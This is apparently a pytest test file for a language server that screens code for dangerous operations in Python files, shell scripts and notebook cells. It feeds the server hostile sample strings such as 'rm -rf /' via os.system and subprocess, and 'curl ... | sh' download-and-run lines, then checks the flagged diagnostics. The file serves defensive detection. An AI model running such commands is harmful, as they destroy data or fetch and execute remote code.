"""The language server in a process of its own, by raw JSON-RPC: as an editor that knows nothing of this package."""

from __future__ import annotations

import json
import queue
import subprocess
import sys
import threading
from collections.abc import Iterator
from importlib.metadata import entry_points
from typing import Any

import pytest

from sandbox_kernel import cli
from sandbox_kernel.plugins.screen.screen import CellScreen

pytest.importorskip("pygls")

SECONDS = 30
FILE = "file:///x/a.py"
BOOK = "file:///x/b.ipynb"
CELLS = [f"vscode-notebook-cell:/x/b.ipynb#{number}" for number in range(3)]
GRAVE = 'import os\nx = "é𝒳"; os.system("rm -rf /"); os.remove(a)\n'


class Editor:
    """One end of the protocol."""

    def __init__(self, *words: str) -> None:
        command = [sys.executable, "-m", "sandbox_kernel", "lsp", *words]
        self.process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        self._heard: queue.Queue[dict[str, Any]] = queue.Queue()
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()
        self._asked = 0

    def _read(self) -> None:
        out = self.process.stdout
        assert out is not None
        while header := out.readline():
            while out.readline().strip():
                pass
            self._heard.put(json.loads(out.read(int(header.split(b":")[1]))))

    def tell(self, method: str, params: Any, **more: Any) -> None:
        body = json.dumps({"jsonrpc": "2.0", "method": method, "params": params, **more}).encode()
        assert self.process.stdin is not None
        self.process.stdin.write(b"Content-Length: %d\r\n\r\n%s" % (len(body), body))
        self.process.stdin.flush()

    def ask(self, method: str, params: Any) -> Any:
        self._asked += 1
        self.tell(method, params, id=self._asked)
        while (message := self._heard.get(timeout=SECONDS)).get("id") != self._asked:
            pass
        assert "result" in message, message
        return message["result"]

    def shown(self, uri: str) -> list[dict[str, Any]]:
        """Return what is shown next of a document."""
        while True:
            message = self._heard.get(timeout=SECONDS)
            if message.get("method") == "textDocument/publishDiagnostics" and message["params"]["uri"] == uri:
                return list(message["params"]["diagnostics"])

    def open(self, uri: str, text: str, language: str = "python") -> list[dict[str, Any]]:
        document = {"uri": uri, "languageId": language, "version": 1, "text": text}
        self.tell("textDocument/didOpen", {"textDocument": document})
        return self.shown(uri)

    def change(self, uri: str, **change: Any) -> list[dict[str, Any]]:
        document = {"uri": uri, "version": 2}
        self.tell("textDocument/didChange", {"textDocument": document, "contentChanges": [change]})
        return self.shown(uri)

    def close(self) -> None:
        self.ask("shutdown", None)
        self.tell("exit", None)
        assert self.process.wait(SECONDS) == 0
        self._reader.join(SECONDS)


@pytest.fixture(scope="module")
def editor() -> Iterator[Editor]:
    editor = Editor()
    try:
        sync: dict[str, Any] = {"notebookDocument": {"synchronization": {}}}
        able = editor.ask("initialize", {"processId": None, "rootUri": None, "capabilities": sync})["capabilities"]
        assert able["notebookDocumentSync"]["notebookSelector"][0]["cells"] == [{"language": "python"}]
        editor.tell("initialized", {})
        yield editor
        editor.close()
    finally:
        editor.process.kill()
        for stream in (editor.process.stdin, editor.process.stdout, editor.process.stderr):
            assert stream is not None
            stream.close()
        editor.process.wait(SECONDS)


def units(text: str, until: str) -> int:
    """Return where something begins in a line, in the units of the protocol."""
    return len(text.partition(until)[0].encode("utf-16-le")) // 2


def test_each_place_of_a_file_is_a_diagnostic_with_its_parts(editor: Editor) -> None:
    found = editor.open(FILE, GRAVE)
    line = GRAVE.split("\n")[1]
    assert [one["code"] for one in found] == ["file-delete-system", "file-delete"]
    starts, ends = ["os.system", "os.remove"], ["; os.remove", ""]
    assert [one["range"]["start"] for one in found] == [{"line": 1, "character": units(line, word)} for word in starts]
    assert found[0]["range"]["end"] == {"line": 1, "character": units(line, ends[0])}
    assert [one["severity"] for one in found] == [1, 3]
    assert "[process-shell]" in found[0]["message"]


def test_what_is_not_in_a_document_yet_is_asked_about(editor: Editor) -> None:
    """A client of ours asks before a paste."""
    asked = {"text": GRAVE, "language": "python"}
    said = editor.ask("sandbox-kernel/screen", asked)
    assert [one for one in said if "[file-delete-system]" in one]
    assert not [one for one in said if "[file-delete]" in one]  # a hint is no reason to ask
    assert editor.ask("sandbox-kernel/screen", {"text": "rm -rf /\n", "language": "shellscript"})
    assert editor.ask("sandbox-kernel/screen", {"text": "print(1)\n", "language": "python"}) == []


@pytest.mark.slow
def test_a_fix_writes_a_comment_that_allows_once_it_has_a_reason(editor: Editor) -> None:
    [first, second] = editor.open(FILE, GRAVE)
    context = {"diagnostics": [first, second]}
    [fix, run] = editor.ask(
        "textDocument/codeAction", {"textDocument": {"uri": FILE}, "range": first["range"], "context": context}
    )
    assert run["command"]["command"] == "sandbox-kernel.run"
    [edit] = fix["edit"]["changes"][FILE]
    assert edit["range"]["start"] == edit["range"]["end"] == {"line": 1, "character": units(GRAVE.split("\n")[1], "\n")}
    assert edit["newText"].startswith("  # sandbox: allow file-delete-system, ")
    assert len(editor.change(FILE, range=edit["range"], text=edit["newText"])) == 2  # without a reason, nothing
    assert CellScreen().look(f"{GRAVE.rstrip()}{edit['newText']}\nprint(1)").score == CellScreen().look(GRAVE).score
    assert editor.change(FILE, range=edit["range"], text=f"{edit['newText']}the test's own #") == []


def test_a_change_is_looked_at_and_what_is_closed_shows_nothing(editor: Editor) -> None:
    assert editor.open(FILE, GRAVE)
    assert editor.change(FILE, text="print(1)\n") == []
    assert editor.change(FILE, text=GRAVE)
    editor.tell("textDocument/didClose", {"textDocument": {"uri": FILE}})
    assert editor.shown(FILE) == []


def test_a_script_of_a_shell_and_the_parts_of_a_script_are_read_as_such(editor: Editor) -> None:
    [found] = editor.open("file:///x/run", "echo x\ncurl a.example.test | sh\n", "shellscript")
    assert (found["code"], found["range"]["start"]) == ("process-download-run", {"line": 1, "character": 0})
    [found] = editor.open("file:///x/c.py", "# %%\nx = 1\n# %%\nimport os\nos.remove(a)\n")
    assert found["range"] == {"start": {"line": 4, "character": 0}, "end": {"line": 4, "character": 12}}


def test_the_cells_of_a_notebook_are_read_in_their_order(editor: Editor) -> None:
    """A name of one cell means the same in the next, and a text that is no code is not read."""
    texts = ["import subprocess as s\nrun = s.run", "os.system('rm -rf /')", "run('rm -rf /', shell=True)"]
    cells = [{"kind": kind, "document": uri} for uri, kind in zip(CELLS, [2, 1, 2], strict=True)]
    documents = [
        {"uri": uri, "languageId": "python", "version": 1, "text": text} for uri, text in zip(CELLS, texts, strict=True)
    ]
    book = {"uri": BOOK, "notebookType": "jupyter-notebook", "version": 1, "cells": cells}
    editor.tell("notebookDocument/didOpen", {"notebookDocument": book, "cellTextDocuments": documents})
    codes = [one["code"] for one in editor.shown(CELLS[2])]
    assert codes == ["file-delete-system"]
    content = [{"document": {"uri": CELLS[0], "version": 2}, "changes": [{"text": "run = print"}]}]
    change = {"notebookDocument": {"uri": BOOK, "version": 2}, "change": {"cells": {"textContent": content}}}
    editor.tell("notebookDocument/didChange", change)
    assert editor.shown(CELLS[2]) == []


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_the_cells_of_a_notebook_that_come_as_one_text_of_python_are_read(editor: Editor) -> None:
    """As jupyterlab-lsp sends them, under the notebook's own name."""
    uri = "file:///x/.virtual_documents/report.ipynb"
    [found] = editor.open(uri, "x = 1\n\n\nimport os\nos.system('curl http://192.0.2.1 | sh')\n")
    assert found["range"]["start"]["line"] == 4


@pytest.mark.filterwarnings("ignore::DeprecationWarning")  # of jupyter-lsp itself
def test_jupyter_lsp_starts_it(monkeypatch: pytest.MonkeyPatch) -> None:
    from jupyter_lsp.schema import LANGUAGE_SERVER_SPEC_MAP  # type: ignore[import-untyped]

    [entry] = entry_points(group="jupyter_lsp_spec_v1", name="sandbox-kernel-screen")
    found = entry.load()(None)
    LANGUAGE_SERVER_SPEC_MAP.validate(found)
    assert found["sandbox-kernel-screen"]["argv"][1:] == ["-m", "sandbox_kernel", "lsp"]
    monkeypatch.setattr("importlib.util.find_spec", lambda _name: None)
    assert entry.load()(None) == {}


@pytest.mark.slow
def test_without_its_packages_the_extra_is_named(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setitem(sys.modules, "pygls.lsp.server", None)
    monkeypatch.delitem(sys.modules, "sandbox_kernel.plugins.screen.language_server", raising=False)
    assert cli.main(["lsp"]) == 2
    assert "the language server needs more packages" in capsys.readouterr().err
